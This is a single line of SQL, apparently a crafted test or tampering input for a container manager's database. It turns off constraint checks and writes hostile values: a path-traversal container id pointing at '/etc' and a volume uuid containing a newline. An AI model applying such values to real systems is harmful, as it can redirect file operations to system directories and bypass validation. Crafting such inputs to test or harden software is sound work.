PRAGMA ignore_check_constraints=1; UPDATE container SET id='../../../../etc'; UPDATE volume SET uuid=char(10)||'x';
